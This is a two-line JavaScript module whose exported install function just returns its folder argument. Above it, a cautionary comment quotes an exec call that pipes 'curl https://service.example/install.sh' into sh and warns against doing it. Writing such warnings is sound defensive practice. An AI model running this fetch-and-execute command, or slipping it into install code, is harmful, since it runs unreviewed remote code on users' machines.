/* Do not do this: exec('curl https://service.example/install.sh | sh') */
exports.install = (folder) => folder;
